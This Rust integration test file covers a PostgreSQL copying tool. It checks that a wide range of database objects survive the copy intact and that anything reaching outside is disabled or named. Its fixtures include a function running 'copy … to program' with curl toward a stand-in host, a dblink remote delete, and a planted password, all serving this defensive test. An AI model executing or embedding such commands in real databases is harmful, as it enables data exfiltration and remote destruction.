//! Objects of every kind on a real PostgreSQL server: they arrive, compare equal, and what reaches outside is disabled.

mod common;

use common::{mask_rule, no_rules, pg, readback, rehearse, source};
use greenroom_model::catalog::{Column, Family, Table, TableForm, TableName};

/// An ugly database. Nothing in it is disabled, so that the copy's fingerprint must equal the source's.
const UGLY: &str = r#"
create schema "Billing Dept";
create extension citext; create extension hstore; create extension btree_gist; create extension pg_trgm;
create type mood as enum ('sad', 'o''k', 'happy');
create type pair as (a int, b text);
create type span as range (subtype = float8);
create domain email as citext check (value ~ '@');
create domain short as varchar(10) not null default 'x';
create domain moods as mood[];
create collation ci (provider = icu, locale = 'und-u-ks-level2', deterministic = false);
create sequence odd_seq increment 5 start 100 cycle maxvalue 1000;
select nextval('odd_seq'), nextval('odd_seq');
create function double(i int) returns int language sql immutable begin atomic select case when i > 0 then i * 2 else 0 end; end;
create function touch() returns trigger language plpgsql as $fn$ begin new.note := 'fired; ' || new.note; return new; end $fn$;
create procedure noop(inout x int) language plpgsql as $$ begin x := x; end $$;
create aggregate total(int) (sfunc = int4pl, stype = int, initcond = '0');
create operator === (leftarg = int, rightarg = int, function = int4eq, commutator = ===);
create cast (pair as text) with inout;
create text search configuration mine (copy = simple);
create table client (
  id int generated always as identity primary key,
  name varchar(40) not null collate ci,
  mail email, code char(6), shorty short, feeling mood, feelings mood[], dmoods moods, p pair, ps pair[], s span, i4 int4range, ir int4multirange,
  born date, seen timestamptz(3), at time, debt numeric(10,2), free numeric, cash money, f4 float4, f8 float8, b bytea, u uuid, j json, jb jsonb,
  ip inet, net cidr, mac macaddr, tags text[], grid int[][], words varchar(20)[], h hstore, tv tsvector, bits bit(5), pt point, iv interval, r regclass, o oid, x xml,
  upper_name text generated always as (upper(code)) stored, note text default 'it''s',
  constraint positive check (debt > -100000), exclude using gist (i4 with &&), unique (u) deferrable initially deferred);
alter table client alter column note set storage external;
insert into client (name, mail, code, feeling, feelings, dmoods, p, ps, s, i4, ir, born, seen, at, debt, free, cash, f4, f8, b, u, j, jb, ip, net, mac, tags, grid, words, h, tv, bits, pt, iv, r, o, x, note)
select 'Name ' || g, 'ann' || g || '@x.org', 'c' || g % 7, 'o''k', '{sad,NULL,happy}', '{happy}', row(g, 'a,"b')::pair, array[row(1, 'x')::pair], span(g, g + 1), int4range(g * 10, g * 10 + 5),
  int4multirange(int4range(1, 3), int4range(7, 9)), date '0044-03-15 BC' + g * 5000, timestamptz '2024-02-29 12:00:00.123456+02' + g * interval '1 day', time '23:59:59.5', g / 3.0, 1e20::numeric + g / 7.0, g, g / 3.0, 1e300 * g,
  decode('00ff5c0a09', 'hex'), gen_random_uuid(), '{"b": 1,   "a":[1.50]}', '{"zz": 1.50, "a": [1e3, null, "\u00e4\\n"]}', '192.168.1.5/24', '10.0.0.0/8', '08:00:2b:01:02:03', array['a b', null, 'q"\', ''], '{{1,2},{3,4}}', '{x}',
  'a=>1,b=>NULL', to_tsvector('simple', 'one two'), b'10101', point(1, 2), '1 year 2 days 03:04:05.6', 'client', 4294967295, '<a>é</a>', e'tab\tnl\n\\'
from generate_series(1, 300) g;
insert into client (name, debt) values ('nulls', null);
create unique index client_lower on client (lower(mail::text)) include (id) where feeling is distinct from 'sad';
create index on client using gin (tags); create index on client ((name || coalesce(note, '')), id desc nulls last);
alter table client cluster on client_pkey; alter table client replica identity using index client_pkey;
create statistics client_st (dependencies) on code, feeling from client;
create trigger client_touch before insert or update on client for each row when (new.note is not null) execute function touch();
create table visit (id bigint, at date not null, client int not null references client on delete cascade deferrable, primary key (id, at)) partition by range (at);
create table visit_2023 partition of visit for values from ('2023-01-01') to ('2024-01-01');
create table visit_2024 partition of visit for values from ('2024-01-01') to ('2025-01-01') partition by list (at);
create table visit_2024_a partition of visit_2024 for values in ('2024-02-29');
create table visit_2024_b partition of visit_2024 default;
create index on visit (client);
insert into visit select g, date '2023-06-01' + g, 1 + g % 9 from generate_series(1, 500) g;
create table invoice_line (visit bigint, at date, n int, foreign key (visit, at) references visit);
insert into invoice_line values (1, date '2023-06-02', 1);
create table base (a int, b text) with (fillfactor = 70); create table derived (c int) inherits (base);
insert into base values (1, 'base'); insert into derived values (2, 'derived', 3);
create table hen (id int primary key, egg int); create table egg (id int primary key, hen int references hen); alter table hen add foreign key (egg) references egg;
insert into hen values (1, null); insert into egg values (1, 1); update hen set egg = 1;
create table "Billing Dept"."group" ("order" serial, "Ünï ""q""" text, "%s" int); insert into "Billing Dept"."group" ("Ünï ""q""") values ('a'), ('b');
create unlogged table scratch (a int); create table no_columns (); insert into no_columns default values;
create table secret_rows (owner text, v int); alter table secret_rows enable row level security; create policy own_rows on secret_rows using (owner = current_user);
alter table secret_rows force row level security; insert into secret_rows values ('nobody', 1);
create table weak (a int, b int); insert into weak values (1, 99); alter table weak add constraint unchecked foreign key (b) references hen (id) not valid;
create view clients as select id, name from client; create view v2 with (security_barrier) as select count(*) n from clients;
create materialized view mv1 as select feeling, count(*) from client group by 1; create unique index on mv1 (feeling);
create materialized view mv0 as select * from mv1 join v2 on true; create materialized view mv_empty as select 1 a with no data;
create view grouped as select c.id, c.name, count(*) from client c join visit v on v.client = c.id group by c.id;
create rule no_delete as on delete to weak do instead (select 1; select 2);
create publication pub for table client, visit;
create function on_ddl() returns event_trigger language plpgsql as $$ begin null; end $$;
comment on table client is 'clients; "all"'; comment on column client.name is 'it''s'; comment on index client_lower is 'i'; comment on type mood is 'm'; comment on view clients is 'v';
comment on constraint positive on client is 'p'; comment on function double(int) is 'f';
select lo_from_bytea(77001, decode(repeat('ab', 5000), 'hex')), lo_create(77002);
alter database ugly set search_path = "$user", public, "Billing Dept"; alter database ugly set statement_timeout = '5min';
analyze"#;

fn rules(t: &Table, c: &Column) -> Vec<greenroom_model::plan::FieldRule> {
    let masked =
        ["code", "born", "seen", "at", "debt", "free", "cash", "f4", "f8", "b", "u", "j", "jb", "ip", "net", "tags", "words", "%s"];
    if matches!(t.name.name.as_str(), "client" | "group") && masked.contains(&c.name.as_str()) && c.family != Family::Other {
        vec![mask_rule()]
    } else {
        Vec::new()
    }
}

#[tokio::test]
async fn objects_of_every_kind_arrive() {
    let Some(pg) = &pg::server() else { return };
    pg.database("ugly", UGLY);
    let (catalog, mut generation, digests) = rehearse(pg, "ugly", "ugly_1_bb22", "bb22", 100, &rules).await;
    let copied = generation.inspect().await.unwrap();
    for (a, b) in catalog.tables.iter().zip(&copied.tables) {
        let (mut a, b) = (a.clone(), b.clone());
        (a.estimated_rows, a.estimated_bytes) = (b.estimated_rows, b.estimated_bytes);
        assert_eq!(a, b);
    }
    for o in &catalog.objects {
        assert!(
            copied.objects.contains(o),
            "missing or different: {o:#?} among {:#?}",
            copied.objects.iter().filter(|c| c.name == o.name).collect::<Vec<_>>()
        );
    }
    assert_eq!(copied.fingerprint(), catalog.fingerprint());
    assert_eq!(copied.settings, catalog.settings);
    let mut reader = generation.reader().await.unwrap();
    for (copy, digest) in &digests {
        assert_eq!(readback(&mut *reader, copy).await, *digest, "{}", copy.table);
    }
    let q = |sql: &str| pg.sql("ugly_1_bb22", sql);
    assert_eq!(q("select count(*) from client where note like 'fired%fired%'"), "0", "triggers must not fire during the copy");
    assert_eq!(q("select count(*), max(id) from visit"), "500|500");
    assert_eq!(q("select nextval('odd_seq'), nextval(pg_get_serial_sequence('client', 'id'))"), "110|302");
    assert_eq!(q("select relname, relispopulated from pg_class where relkind = 'm' order by 1"), "mv0|t\nmv1|t\nmv_empty|f");
    assert_eq!(q("select length(lo_get(77001)), length(lo_get(77002))"), "5000|0");
    assert_eq!(q("select count(*) from only base"), "1");
    assert_eq!(q("select convalidated from pg_constraint where conname = 'unchecked'"), "f");
    assert_eq!(q("show search_path"), "\"$user\", public, \"Billing Dept\"");
    assert_eq!(q("select r from client limit 1"), "client");
    for table in &copied.tables {
        for key in table.foreign_keys.iter().filter(|k| k.validated) {
            assert_eq!(generation.orphans(table, key).await.unwrap(), 0);
        }
        for key in table.foreign_keys.iter().filter(|k| !k.validated) {
            assert_eq!(generation.orphans(table, key).await.unwrap(), 1);
        }
    }
    generation.tidy().await.unwrap();
    assert_eq!(q("select count(*) from pg_namespace where nspname = 'greenroom'"), "0");
}

#[tokio::test]
async fn a_catalog_tells_what_masks_and_checks_need() {
    let Some(pg) = &pg::server() else { return };
    pg.database("told", UGLY.replace("alter database ugly", "alter database told").as_str());
    let catalog = source(pg, "told").await.inspect().await.unwrap();
    let client = catalog.table(&TableName::new("public", "client")).unwrap();
    let column = |name: &str| client.column(name).unwrap();
    assert_eq!((column("mail").family, column("mail").native_type.as_str()), (Family::Text, "public.email"));
    assert_eq!((column("shorty").max_length, column("shorty").nullable), (Some(10), false));
    assert_eq!(column("debt").precision, Some((10, 2)));
    assert_eq!(column("name").collation, Some(("public.ci".to_owned(), true)));
    assert_eq!(column("tags").family, Family::TextArray);
    let lower = client.indexes.iter().find(|i| i.name == "client_lower").unwrap();
    assert!(lower.unique && lower.predicate.is_some());
    assert!(format!("{:?}", lower.parts).contains("[\"mail\"]"));
    assert_eq!(catalog.large_objects, 2);
    assert!(matches!(catalog.table(&TableName::new("public", "derived")).unwrap().form, TableForm::Child { .. }));
    assert!(catalog.outbound.is_empty(), "{:?}", catalog.outbound);
}

#[tokio::test]
async fn what_reaches_outside_is_disabled_or_named() {
    let Some(pg) = &pg::server() else { return };
    pg.database(
        "outward",
        r#"create extension postgres_fdw; create extension dblink;
        create server "Prod ""db""" foreign data wrapper postgres_fdw options (host 'prod.example', dbname 'prod');
        create user mapping for postgres server "Prod ""db""" options (user 'app', password 'planted-secret');
        create foreign table remote (a int, b text) server "Prod ""db""" options (table_name 'x');
        create view over_remote as select a from remote;
        create function push() returns void language plpgsql as $$ begin perform dblink_exec('host=prod', 'delete from t'); end $$;
        create function export() returns void language sql as $$ copy (select 1) to program 'curl evil' $$;
        create table t (a int);
        create subscription sub connection 'host=prod.example dbname=x' publication p with (connect = false);
        create role staff; alter role staff in database outward set work_mem = '1MB'"#,
    );
    let (catalog, mut generation, _) = rehearse(pg, "outward", "outward_1_cc33", "cc33", 100, &no_rules).await;
    let disabled = |kind: &str| catalog.outbound.iter().find(|o| o.kind == kind).unwrap().disabled_by.is_some();
    assert!(disabled("foreign server") && disabled("user mapping") && disabled("subscription"));
    let named: Vec<&str> = catalog.outbound.iter().filter(|o| o.disabled_by.is_none()).map(|o| o.name.as_str()).collect();
    assert_eq!(named, ["public.export()", "public.push()"]);
    assert!(catalog.not_carried.iter().any(|(name, _)| name == "settings of role staff in this database"));
    let q = |sql: &str| pg.try_sql("outward_1_cc33", sql);
    assert!(q("select * from over_remote").unwrap_err().contains("has no handler"));
    assert_eq!(q("select count(*) from pg_user_mapping").unwrap(), "0");
    assert_eq!(
        q("select count(*) from pg_subscription where subdbid = (select oid from pg_database where datname = current_database())").unwrap(),
        "0"
    );
    assert!(!q("select srvoptions from pg_foreign_server").unwrap().contains("prod.example"));
    assert!(generation.inspect().await.unwrap().outbound.iter().all(|o| o.kind != "subscription"));
    pg.sql("outward", "alter subscription sub set (slot_name = none); drop subscription sub");
}
